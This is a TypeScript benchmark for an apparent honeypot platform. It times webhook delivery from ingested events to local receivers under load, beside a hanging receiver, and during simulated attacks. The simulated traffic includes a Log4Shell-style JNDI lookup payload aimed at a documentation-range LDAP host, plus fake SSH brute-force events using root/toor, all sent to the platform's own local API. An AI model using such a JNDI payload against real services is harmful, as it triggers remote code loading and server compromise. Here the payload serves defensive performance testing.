/** From an event to the receiver's socket: how fast under load, beside a receiver that hangs, and in the middle of attacks. */
import { rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { usualPace } from '../src/notify/delivery/pace.ts';
import { createEvents } from './events.ts';
import { freshFolder } from './folder.ts';
import type { Pace, Paced } from './pace.ts';
import { startHelper } from './process.ts';
import { type Bench, main, type Report, whole } from './report.ts';
import type { BenchServer } from './server.ts';

const quantile = (values: readonly number[], share: number): number =>
  [...values].sort((a, b) => a - b)[Math.min(values.length - 1, Math.floor(values.length * share))] ??
  Number.NaN;
const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, Math.max(0, ms)));
/** Below the pace of a webhook: the newest go first, and of more than that the oldest would wait. */
const touchesPerSecond = usualPace.perSecond * 0.75;
const ms = (value: number): string => `${value.toFixed(1)} ms`;

/**
 * Notes when each source's message reached the socket, and when it became worse; `hang` says nothing for 30 s. A message is
 * written in one piece, so the head of its request is its first byte.
 */
async function openReceiver(hang: boolean) {
  const arrived = new Map<string, number>();
  const worsened = new Map<string, number>();
  let requests = 0;
  const server = createServer((request, response) => {
    const at = performance.now();
    requests++;
    let body = '';
    request.on('data', (chunk: Buffer) => {
      body += chunk.toString('utf8');
    });
    request.on('end', () => {
      const { data } = JSON.parse(body) as { data: { source_ip: string; occasion: string } };
      if (data.occasion === 'opened') arrived.set(data.source_ip, at);
      if (data.occasion === 'worse' && !worsened.has(data.source_ip)) worsened.set(data.source_ip, at);
      if (hang) setTimeout(() => response.destroy(), 30_000).unref();
      else response.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`;
  return {
    url,
    arrived,
    worsened,
    get requests() {
      return requests;
    },
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

async function post(url: string, headers: Record<string, string>, body: object): Promise<void> {
  const response = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  });
  if (!response.ok) throw new Error(`${url} answered ${response.status}: ${await response.text()}`);
  await response.arrayBuffer();
}

const hook = ({ address, userHeaders }: BenchServer, url: string, filter: object = {}): Promise<void> =>
  post(`${address}/api/channels`, userHeaders, {
    name: 'bench',
    channel: 'webhook',
    filter,
    settings: { url, secret: `whsec_${Buffer.alloc(32, 1).toString('base64')}` },
  });

/** A decoy is touched on a host of its own: each is an incident, and a message. */
const touch = ({ address, headers }: BenchServer, hostname: string): Promise<void> =>
  post(`${address}/api/agent-alert`, headers, {
    timestamp: new Date().toISOString(),
    hostname,
    username: 'j.doe',
    file_accessed: 'passwords.xlsx',
    file_path: '/srv/passwords.xlsx',
    action: 'ACCESSED',
    severity: 'CRITICAL',
    alert_type: 'decoy_access',
  });

interface Probes {
  /** From the request's start to the receiver's socket: an upper bound, since it holds ingest and commit too. */
  whole: number[];
  /** From the acknowledgement (the event is durable) to the receiver's socket; 0 where the message was there first. */
  afterAck: number[];
}

async function probe(
  tenant: BenchServer,
  arrived: ReadonlyMap<string, number>,
  { count, everyMs, name }: { count: number; everyMs: number; name: string },
): Promise<Probes> {
  const started = performance.now();
  const waits: Promise<{ host: string; sent: number; acked: number }>[] = [];
  for (let n = 0; n < count; n++) {
    await sleep(started + n * everyMs - performance.now());
    const host = `${name}-${n}`;
    const sent = performance.now();
    waits.push(touch(tenant, host).then(() => ({ host, sent, acked: performance.now() })));
  }
  const probes = await Promise.all(waits);
  for (let waited = 0; waited < 40_000 && !probes.every(({ host }) => arrived.has(host)); waited += 50)
    await sleep(50);
  const at = (host: string): number => arrived.get(host) ?? Number.POSITIVE_INFINITY;
  return {
    whole: probes.map(({ host, sent }) => at(host) - sent),
    afterAck: probes.map(({ host, acked }) => Math.max(0, at(host) - acked)),
  };
}

const event = (source_ip: string, fields: object): object => ({
  service: 'SSH',
  source_ip,
  timestamp: new Date().toISOString(),
  activity: 'login_attempt',
  payload: '',
  ...fields,
});
const guess = (source: string, n: number): object =>
  event(source, { extra: { kind: 'login.failed', username: 'root', password: `guess ${n}` } });

/** Until the messages are there, or for so long. ms from `sent`, in its order. */
async function waited(
  sent: ReadonlyMap<string, number>,
  there: ReadonlyMap<string, number>,
): Promise<number[]> {
  for (let ms = 0; ms < 40_000 && ![...sent.keys()].every((key) => there.has(key)); ms += 20) await sleep(20);
  return [...sent].map(([key, at]) => (there.get(key) ?? Number.POSITIVE_INFINITY) - at);
}

/** Sources guess in batches of 100, one after another; each signs in once, in the middle. Waits in ms. */
async function successes(
  { address, headers }: BenchServer,
  worsened: ReadonlyMap<string, number>,
  { sources, guesses }: { sources: number; guesses: number },
): Promise<number[]> {
  const sent = new Map<string, number>();
  const batches = guesses / sources / 100;
  for (let n = 0; n < sources; n++) {
    const source = `203.0.113.${n + 1}`;
    for (let batch = 0; batch < batches; batch++) {
      if (batch === batches >> 1) {
        sent.set(source, performance.now());
        const extra = { kind: 'login.succeeded', username: 'root', password: 'toor' };
        await post(
          `${address}/api/honeypot-log`,
          headers,
          event(source, { activity: 'login_success', extra }),
        );
      }
      const events = Array.from({ length: 100 }, (_, at) => guess(source, batch * 100 + at));
      await post(`${address}/api/events`, headers, events);
    }
  }
  return waited(sent, worsened);
}

/** So many sources try one exploit, evenly over `seconds`; `touches` hosts inside try a password meanwhile. Waits in ms. */
async function insideWave(
  { address, headers }: BenchServer,
  arrived: ReadonlyMap<string, number>,
  pacer: ReturnType<typeof startHelper>,
  { sources, seconds, touches }: { sources: number; seconds: number; touches: number },
): Promise<{ waits: number[]; told: number }> {
  const url = `${address}/api/honeypot-log`;
  const payload = 'GET /?x=${jndi:ldap://203.0.113.1:1389/a} HTTP/1.1';
  const bodies = Array.from({ length: sources }, (_, n) =>
    JSON.stringify(
      event(`20.${n >> 8}.${n & 255}.7`, { service: 'HTTP', activity: 'http_request', payload }),
    ),
  );
  const sent = new Map<string, number>();
  const wave = pacer.ask<Paced>({ url, headers, bodies, seconds, rate: sources / seconds } satisfies Pace);
  for (let n = 0; n < touches; n++) {
    await sleep((1000 * seconds) / (touches + 1));
    const source = `10.20.30.${n + 1}`;
    sent.set(source, performance.now());
    await post(url, headers, guess(source, 0));
  }
  const { bad } = await wave;
  if (bad > 0) throw new Error(`${bad} requests of the wave were not answered well`);
  const waits = await waited(sent, arrived);
  return { waits, told: [...arrived.keys()].filter((source) => source.startsWith('20.')).length };
}

/** Receivers on this machine are for the owner alone as long as anybody may register: who shall have one registers before. */
async function openTenants(folder: string, count: number) {
  const open = startHelper('server', { BENCH_DATA: folder });
  const enrolled: BenchServer[] = [];
  for (let n = 0; n < count; n++) enrolled.push(await open.ask<BenchServer>({ what: 'enrol' }));
  await open.end();
  const server = startHelper('server', { BENCH_DATA: folder, BENCH_REGISTRATION: 'closed' });
  const { address } = await server.ask<{ address: string }>({ what: 'address' });
  return { server, tenants: enrolled.map((tenant) => ({ ...tenant, address })) };
}

async function run(options: Record<string, string>): Promise<Report> {
  const seconds = Number(options.seconds);
  const rate = Number(options.rate);
  const hanging = Number(options.hanging);
  const folder = freshFolder();
  const { server, tenants } = await openTenants(folder, 5);
  const pacer = startHelper('pace');
  const quick = await openReceiver(false);
  const stuck = await openReceiver(true);
  const other = await openReceiver(false);
  const attacked = await openReceiver(false);
  try {
    const [loaded, slow, fair, guessed, waved] = tenants as [
      BenchServer,
      BenchServer,
      BenchServer,
      BenchServer,
      BenchServer,
    ];
    // What the load itself tells would be more than a webhook is sent a second, and wait for that reason.
    await hook(loaded, quick.url, { services: ['endpoint_agent'] });
    const next = createEvents(7, Date.now() - 60_000);
    const bodies = Array.from({ length: 5000 }, () => JSON.stringify(next()));
    const pace: Pace = {
      url: `${loaded.address}/api/honeypot-log`,
      headers: loaded.headers,
      bodies,
      seconds,
      rate,
    };
    await probe(loaded, quick.arrived, { count: 20, everyMs: 1000 / touchesPerSecond, name: 'warm' });
    const [hit, under] = await Promise.all([
      pacer.ask<Paced>(pace),
      probe(loaded, quick.arrived, {
        count: seconds * touchesPerSecond,
        everyMs: 1000 / touchesPerSecond,
        name: 'probe',
      }),
    ]);
    const told = quick.requests;

    await hook(slow, stuck.url);
    await hook(fair, other.url);
    for (let n = 0; n < hanging; n += 20)
      await Promise.all(
        Array.from({ length: Math.min(20, hanging - n) }, (_, m) => touch(slow, `slow-${n + m}`)),
      );
    const beside = await probe(fair, other.arrived, { count: 200, everyMs: 50, name: 'fair' });
    await hook(guessed, attacked.url);
    const successMs = await successes(guessed, attacked.worsened, { sources: 10, guesses: 10_000 });
    await hook(waved, attacked.url);
    const wave = { sources: 5000, seconds: 20, touches: 10 };
    const inside = await insideWave(waved, attacked.arrived, pacer, wave);
    const [p50, p99] = [quantile(under.afterAck, 0.5), quantile(under.afterAck, 0.99)];
    const isolated = quantile(beside.whole, 0.99);
    return {
      title: 'Messages',
      how: `Server, load and receivers in processes of their own. Beside ${whole(hit.answered / seconds)} single events/s (asked: ${rate}/s, ${hit.bad} answered badly), ${touchesPerSecond} decoys a second are touched, each an incident with a signed webhook of its own (a webhook is sent at most ${usualPace.perSecond} messages a second; this channel takes the touches alone); ${told} webhooks in all. Then ${hanging} messages of one tenant go to a receiver that says nothing for 30 s, and another tenant's 200 are timed from the event's request to the socket. A third tenant is guessed at 10,000 times by 10 sources, in batches of 100 without a pause, and each source signs in once in the middle. A fourth is tried by 5,000 sources in ${wave.seconds} s, and ${wave.touches} hosts inside its network try one password each meanwhile. All of these are timed from the start of the event's request to the first byte of the message at its receiver.`,
      lines: [
        {
          what: 'durable event → receiver’s socket, median',
          value: ms(p50),
          must: '< 50 ms',
          holds: p50 < 50,
        },
        { what: 'the same, 99th percentile', value: ms(p99), must: '< 500 ms', holds: p99 < 500 },
        { what: 'request of the event → receiver’s socket, median', value: ms(quantile(under.whole, 0.5)) },
        { what: 'the same, 99th percentile', value: ms(quantile(under.whole, 0.99)) },
        {
          what: 'beside a hanging receiver, 99th percentile',
          value: ms(isolated),
          must: '< 2,000 ms',
          holds: isolated < 2000,
        },
        {
          what: 'a success among 10,000 guesses → receiver’s socket, median',
          value: `${ms(quantile(successMs, 0.5))}; longest ${ms(Math.max(...successMs))}`,
          must: '< 100 ms',
          holds: Math.max(...successMs) < 100,
        },
        {
          what: 'a touch inside among 5,000 sources → receiver’s socket, median',
          value: `${ms(quantile(inside.waits, 0.5))}; longest ${ms(Math.max(...inside.waits))}; ${inside.told} sources of the wave were told by themselves`,
          must: '< 1,000 ms',
          holds: Math.max(...inside.waits) < 1000,
        },
      ],
    };
  } finally {
    for (const receiver of [quick, stuck, other, attacked]) receiver.close();
    await Promise.all([server.end(), pacer.end()]);
    rmSync(folder, { recursive: true, force: true });
  }
}

export const bench: Bench = {
  title: 'Messages',
  help: 'From an event to the socket of a webhook, under load, beside a receiver that hangs, and in the middle of attacks.',
  options: { seconds: '15', rate: '1000', hanging: '1000' },
  run,
};

if (import.meta.main) await main(bench);
